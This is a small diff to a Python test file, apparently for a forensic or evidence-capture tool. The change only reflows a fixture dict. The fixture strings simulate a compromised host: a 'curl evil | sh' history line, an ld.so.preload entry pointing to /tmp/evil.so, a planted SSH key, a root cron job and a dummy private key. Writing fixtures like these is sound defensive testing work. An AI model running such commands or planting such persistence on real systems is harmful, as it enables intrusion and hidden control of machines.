@@ -22,8 +22,8 @@ from checks import equal, finish, holds
 LIBC = ctypes.CDLL(None, use_errno=True)
 CLONE_NEWNS, MNT_DETACH = 0x20000, 2
 PIVOT_ROOT = {"x86_64": 155, "aarch64": 41}[os.uname().machine]
-KEPT = {"/tmp/note": b"dropped here\n", "/etc/ld.so.preload": b"/tmp/evil.so\n", "/root/.ssh/authorized_keys": b"ssh-x\n",
-        "/root/.bash_history": b"curl evil | sh\n", "/var/log/amazon/ssm/agent.log": b"session\n",
+KEPT = {"/tmp/note": b"dropped here\n", "/etc/ld.so.preload": b"/tmp/evil.so\n",
+        "/root/.ssh/authorized_keys": b"ssh-x\n", "/root/.bash_history": b"curl evil | sh\n", "/var/log/amazon/ssm/agent.log": b"session\n",
         "/etc/cron.d/job": b"* * * * * root /tmp/x\n", "/tmp/sh\\ort \xff\n name": b"odd name\n",
         "/tmp/large": b"0123456789abcdef" * 40000}
 LISTED = {"/srv/app": b"#!/bin/sh\n", "/tmp/key.pem": b"-----BEGIN RSA PRIVATE KEY-----\nbm9uZQ==\n"}
